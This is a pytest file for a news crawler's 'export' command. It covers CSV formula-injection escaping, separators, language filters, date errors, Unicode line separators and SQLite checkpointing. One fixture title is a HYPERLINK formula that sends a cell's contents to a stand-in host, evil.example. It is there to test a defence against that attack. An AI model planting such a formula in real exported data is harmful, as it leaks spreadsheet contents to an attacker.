"""`newswatch export` as a spreadsheet opens it: scraped text that would start a formula stays text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from crawler.store import Store
from scheduler.cli import cli
from tests.support.articles import article_record

TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "-40 °C in Yakutsk: the cold-weather test site opens",
    "+7 per cent: Sino-Russian trade",
    "@Rosatom on the new reactor",
    "＝1+1 in full width",
    "Russia and China sign a research agreement",
]


def test_csv_cells_that_would_start_a_formula_are_text_and_jsonl_keeps_them_as_stored(tmp_path: Path) -> None:
    cfg = tmp_path / "c.toml"
    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
    with Store(tmp_path / "nw.db") as store:
        for n, title in enumerate(TITLES):
            store.add_article(article_record(n, title, "=1+2 " + title if n == 0 else "Text.\nTwo lines."))
    out = CliRunner().invoke(cli, ["-c", str(cfg), "export", "--format", "csv", "--bom"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output.removeprefix("\ufeff"))))
    assert [r["title"] for r in rows] == ["'" + t for t in TITLES[:5]] + [TITLES[5]]
    assert rows[0]["text"].startswith("'=1+2 ") and rows[1]["text"] == "Text.\nTwo lines."
    assert all(r["url"].startswith("https://") for r in rows)
    jsonl = CliRunner().invoke(cli, ["-c", str(cfg), "export"])
    assert [json.loads(line)["title"] for line in jsonl.output.splitlines()] == TITLES


def test_until_not_after_since_is_a_usage_error_and_a_future_since_a_warning(tmp_path: Path) -> None:
    cfg = tmp_path / "c.toml"
    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
    with Store(tmp_path / "nw.db") as store:
        store.add_article(article_record(1, "Russia", "Text."))
    runner = CliRunner()
    swapped = runner.invoke(cli, ["-c", str(cfg), "export", "--since", "2026-11-20", "--until", "2026-11-10"])
    assert swapped.exit_code == 2
    assert swapped.output == (
        "error: --until '2026-11-10' is not after --since '2026-11-20': no article was fetched between them; "
        "--since is where the export starts, --until where it ends\n"
    )
    future = runner.invoke(cli, ["-c", str(cfg), "export", "--since", "2999-01-01"])
    assert future.exit_code == 0
    assert future.output == "warning: --since '2999-01-01' is in the future: no article was fetched since\n"
    assert len(runner.invoke(cli, ["-c", str(cfg), "export", "--since", "1d"]).output.splitlines()) == 1


def test_a_semicolon_or_tab_separated_csv_for_spreadsheets_in_comma_decimal_languages(tmp_path: Path) -> None:
    cfg = tmp_path / "c.toml"
    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
    with Store(tmp_path / "nw.db") as store:
        store.add_article(article_record(1, "Россия; Китай, наука", "Текст;\nвторая строка"))
    for separator, delimiter in ((";", ";"), ("tab", "\t"), (",", ",")):
        out = CliRunner().invoke(cli, ["-c", str(cfg), "export", "--format", "csv", "--separator", separator])
        assert out.exit_code == 0, out.output
        assert out.output.startswith(delimiter.join(["id", "url", "canonical_url"]))
        (row,) = list(csv.DictReader(io.StringIO(out.output), delimiter=delimiter))
        assert (row["title"], row["text"]) == ("Россия; Китай, наука", "Текст;\nвторая строка")
    jsonl = CliRunner().invoke(cli, ["-c", str(cfg), "export", "--separator", ";"])
    assert jsonl.exit_code == 2 and "--separator ';' is for --format csv" in jsonl.output


def test_language_keeps_the_articles_in_those_languages(tmp_path: Path) -> None:
    import dataclasses

    cfg = tmp_path / "c.toml"
    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
    with Store(tmp_path / "nw.db") as store:
        for n, language in enumerate(("en", "ru", "zh", None)):
            store.add_article(dataclasses.replace(article_record(n, f"Article {n}", "Text."), language=language))

    def exported(*args: str) -> list[str | None]:
        out = CliRunner().invoke(cli, ["-c", str(cfg), "export", *args])
        assert out.exit_code == 0, out.output
        return [json.loads(line)["language"] for line in out.output.splitlines()]

    assert exported("--language", "ru") == ["ru"]
    assert exported("--language", "ZH", "--language", "en") == ["en", "zh"]
    assert exported() == ["en", "ru", "zh", None]


def test_a_language_no_article_is_in_gets_a_warning_naming_the_stored_ones(tmp_path: Path) -> None:
    """`export --language cn` (Chinese is zh) wrote nothing and said nothing, exit 0, where search says what is stored."""
    import dataclasses

    cfg = tmp_path / "c.toml"
    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
    with Store(tmp_path / "nw.db") as store:
        for n, language in enumerate(("en", "ru", "zh")):
            store.add_article(dataclasses.replace(article_record(n, f"Article {n}", "Text."), language=language))
    result = CliRunner().invoke(cli, ["-c", str(cfg), "export", "--language", "cn"])
    assert result.exit_code == 0 and result.stdout == ""
    assert result.stderr == "warning: --language: no article is in 'cn' (stored: en, ru, zh)\n"
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["-c", str(cfg), "export", "--language", "cn", "--language", "ru", "-o", str(out)])
    assert result.exit_code == 0 and result.stderr == f"wrote 1 article to {out}\n"  # one of them is stored


def test_line_separators_in_scraped_text_keep_each_record_one_line_from_export_to_topics_eval(tmp_path: Path) -> None:
    """U+2028, U+2029 and U+0085 are text to JSON but line breaks to str.splitlines() and some editors: export
    writes them escaped, and topics eval reads a file another tool wrote with them raw."""
    cfg = tmp_path / "c.toml"
    cfg.write_text(
        '[storage]\ndatabase = "nw.db"\n[[topics]]\nname = "joint"\nquery = "joint AND research"\nmin_score = 1.0\n',
        encoding="utf-8",
    )
    text = "Joint research\u2028begins.\u2029A second\x85paragraph."
    with Store(tmp_path / "nw.db") as store:
        store.add_article(article_record(0, "Joint research\u2028centre", text))
    out = CliRunner().invoke(cli, ["-c", str(cfg), "export"])
    assert out.exit_code == 0, out.output
    assert len(out.output.splitlines()) == 1 and "\\u2028" in out.output
    record = json.loads(out.output)
    assert record["text"] == text and record["title"] == "Joint research\u2028centre"

    raw = tmp_path / "raw.jsonl"  # as json.dumps(ensure_ascii=False) writes it: the separators raw
    rows = [
        dict(record, label=1),
        {"id": "b", "language": "en", "title": "Trade", "text": "Trade\u2028figures.", "label": 0},
    ]
    raw.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    result = CliRunner().invoke(cli, ["-c", str(cfg), "topics", "eval", str(raw), "--json"])
    assert result.exit_code == 0, result.output
    (topic,) = json.loads(result.output)
    assert topic["all"]["tp"] == 1 and topic["all"]["fp"] == 0 and topic["all"]["fn"] == 0


def test_a_long_export_lets_the_daemon_s_writes_be_checkpointed_and_holds_what_was_stored_when_it_began(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # an export streamed into a slow pipe held one read for its whole length: nothing written meanwhile could be
    # copied into the database file, and the -wal file grew by every write (the digest's flush before a send failed)
    import sqlite3

    from crawler import store as store_module

    monkeypatch.setattr(store_module, "EXPORT_CHUNK", 4, raising=False)
    db = tmp_path / "nw.db"
    with Store(db) as st:
        for n in range(10):
            aid = st.add_article(article_record(n, f"T{n}", f"text {n}")).article_id
            if n % 3 == 0:  # matches spread over the chunks
                st.set_matches(aid, [("t", 2.0, ["text"])])
    writer = sqlite3.connect(db, isolation_level=None)
    with Store(db, readonly=True) as st:
        everything, matched = st.iter_export(), st.iter_export(matched=True)
        first = [next(everything), next(matched)]
        with Store(db) as daemon:  # the daemon stores an article and writes its state meanwhile
            daemon.add_article(article_record(99, "later", "stored after the export began"))
            for i in range(50):
                daemon.set_state(f"k{i}", "v")
        busy, log, done = writer.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()
        assert (busy, log, done) == (0, 0, 0)  # before: (1, N, 0), not a frame copied while the export ran
        rows = first[:1] + list(everything)
        hits = first[1:] + list(matched)
    writer.close()
    assert [r["title"] for r in rows] == [f"T{n}" for n in range(10)]  # not the one stored after it began
    assert [r["title"] for r in hits] == ["T0", "T3", "T6", "T9"]


def test_an_output_file_ending_in_csv_is_written_as_csv_unless_format_says_otherwise(tmp_path: Path) -> None:
    # "export -o last-month.csv" wrote JSON Lines into last-month.csv: --format defaulted to jsonl whatever FILE was
    cfg = tmp_path / "c.toml"
    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
    with Store(tmp_path / "nw.db") as store:
        store.add_article(article_record(1, "Россия и Китай", "Текст."))

    def written(name: str, *args: str) -> str:
        out = CliRunner().invoke(cli, ["-c", str(cfg), "export", "-o", str(tmp_path / name), *args])
        assert out.exit_code == 0, out.output
        return (tmp_path / name).read_text(encoding="utf-8")

    (row,) = csv.DictReader(io.StringIO(written("last-month.CSV")))
    assert row["title"] == "Россия и Китай"
    (row,) = csv.DictReader(io.StringIO(written("semi.csv", "--separator", ";")), delimiter=";")
    assert row["text"] == "Текст."
    assert json.loads(written("all.jsonl"))["title"] == "Россия и Китай"
    assert json.loads(written("asked.csv", "--format", "jsonl"))["title"] == "Россия и Китай"
    assert written("asked.txt", "--format", "csv").startswith("id,url,")
